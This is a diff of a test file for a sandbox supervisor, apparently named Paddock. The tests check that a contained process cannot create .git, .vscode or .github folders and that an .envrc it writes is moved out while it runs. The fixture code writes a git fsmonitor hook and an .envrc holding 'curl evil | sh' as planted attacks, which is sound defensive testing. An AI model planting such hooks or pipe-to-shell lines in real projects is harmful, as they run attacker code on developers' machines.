@@ -146,59 +146,58 @@ describe('start returns when the process is ready (issue 16)', () => {
 });
 
 describe.skipIf(!sandboxStatus().available)('start: what a long-lived contained process may not plant (SPEC §4)', () => {
-  it('has what it plants (.git with a config, .vscode, .envrc) moved out while it still runs, says so in its output, and leaves no folder of Paddock’s on the owner’s disk', async () => {
+  it('cannot make .git or .vscode while it runs; an .envrc it made is moved out at once, while it runs, and its output says so', async () => {
     const { supervisor, ws, dataDir, ctx } = setup();
-    const before = fs.readdirSync(ws);
     const planter = [
       "const fs = require('node:fs');",
-      "fs.mkdirSync('.git', { recursive: true });",
-      "fs.writeFileSync('.git/config', '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n');",
-      "fs.mkdirSync('.vscode', { recursive: true });",
-      "fs.writeFileSync('.vscode/tasks.json', '{}');",
+      'const tries = [];',
+      "for (const dir of ['.git', '.vscode', '.github']) { try { fs.mkdirSync(dir + '/x', { recursive: true }); tries.push(dir + ': made'); } catch (e) { tries.push(dir + ': ' + e.code); } }",
+      "try { fs.writeFileSync('.git/config', '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n'); tries.push('config: written'); } catch (e) { tries.push('config: ' + e.code); }",
       "fs.writeFileSync('.envrc', 'curl evil | sh\\n');",
       "fs.writeFileSync('ordinary.txt', 'fine\\n');",
-      "console.log('planted');",
-      // It keeps running: what it planted must be gone before it ends.
+      "console.log(tries.join('; '));",
+      // It keeps running: the .envrc must be gone before it ends.
       'setTimeout(() => process.exit(0), 60_000);',
     ].join('\n');
     fs.writeFileSync(path.join(ws, 'plant.cjs'), planter);
     const start = createStartTool({ supervisor, settleMs: 200, sandbox: testSandbox({ dataDir }) });
     const output = createOutputTool({ supervisor });
     await start.run({ name: 'planter', command: 'node plant.cjs' }, ctx());
+    // While it runs, the placeholders stand (empty, read-only inside).
     const deadline = Date.now() + 20_000;
     let said = '';
     while (Date.now() < deadline) {
       said = text(await output.run({ name: 'planter' }, ctx()));
-      if (said.includes('`.envrc`') && said.includes('`.git`') && said.includes('`.vscode`')) break;
+      if (said.includes('[paddock]')) break;
       await new Promise((resolve) => setTimeout(resolve, 100));
     }
+    // Each refused, whatever errno the runtime names (Node's recursive mkdir reports ENOENT for EROFS).
+    expect(said).toMatch(/\.git: E[A-Z]+; \.vscode: E[A-Z]+; \.github: E[A-Z]+; config: E[A-Z]+/);
+    expect(said).not.toContain('made');
+    expect(said).not.toContain('written');
+    expect(said).toContain('`.envrc` appeared');
+    expect(fs.existsSync(path.join(ws, '.envrc'))).toBe(false);
     expect(supervisor.list().find((row) => row.name === 'planter')?.status).toBe('running');
-    for (const name of ['.git', '.vscode', '.envrc']) {
-      expect(said).toContain(`\`${name}\``);
-      expect(fs.existsSync(path.join(ws, name)), name).toBe(false);
-    }
-    expect(fs.readFileSync(path.join(ws, 'ordinary.txt'), 'utf8')).toBe('fine\n');
-    const refused = fs.readdirSync(path.join(dataDir, 'refused'));
-    for (const name of ['.git', '.vscode', '.envrc']) expect(refused.some((entry) => entry.endsWith(`-${name}`)), name).toBe(true);
-    // Nothing of Paddock's in the owner's folder: only what the process itself made and kept.
-    expect(fs.readdirSync(ws).sort()).toEqual([...before, 'ordinary.txt', 'plant.cjs'].sort());
     await supervisor.stop(ctx().agent.id, 'planter');
+    await new Promise((resolve) => setTimeout(resolve, 300));
+    // After it ended: no placeholder left behind, no repository, no .envrc; ordinary work kept.
+    for (const name of ['.git', '.vscode', '.github', '.envrc']) expect(fs.existsSync(path.join(ws, name)), name).toBe(false);
+    expect(fs.readFileSync(path.join(ws, 'ordinary.txt'), 'utf8')).toBe('fine\n');
+    expect(fs.readdirSync(path.join(dataDir, 'refused')).some((name) => name.endsWith('.envrc'))).toBe(true);
   }, 30_000);
 
-  it('leaves the owner’s own .vscode that was there before it started alone, and makes no placeholder folders', async () => {
+  it('leaves the owner’s own .vscode alone, and a placeholder the owner wrote into stays', async () => {
     const { supervisor, ws, dataDir, ctx } = setup();
-    fs.mkdirSync(path.join(ws, '.vscode'));
-    const before = [...fs.readdirSync(ws), 'wait.cjs'].sort();
-    fs.writeFileSync(path.join(ws, '.vscode', 'settings.json'), '{}\n');
     fs.writeFileSync(path.join(ws, 'wait.cjs'), 'setTimeout(() => process.exit(0), 1500);\n');
     const start = createStartTool({ supervisor, settleMs: 200, sandbox: testSandbox({ dataDir }) });
     await start.run({ name: 'waiter', command: 'node wait.cjs' }, ctx());
-    // While it runs: no empty .git, .idea, .github… appear in the owner's folder.
-    expect(fs.readdirSync(ws).sort()).toEqual(before);
+    expect(fs.readdirSync(path.join(ws, '.vscode'))).toEqual([]);
+    // The owner's editor writes settings while the process runs (outside the sandbox).
+    fs.writeFileSync(path.join(ws, '.vscode', 'settings.json'), '{}\n');
     const deadline = Date.now() + 20_000;
     while (Date.now() < deadline && supervisor.list().some((row) => row.name === 'waiter' && row.status === 'running')) await new Promise((resolve) => setTimeout(resolve, 100));
     await new Promise((resolve) => setTimeout(resolve, 300));
     expect(fs.readFileSync(path.join(ws, '.vscode', 'settings.json'), 'utf8')).toBe('{}\n');
-    expect(fs.readdirSync(ws).sort()).toEqual(before);
+    expect(fs.existsSync(path.join(ws, '.idea'))).toBe(false);
   }, 30_000);
 });
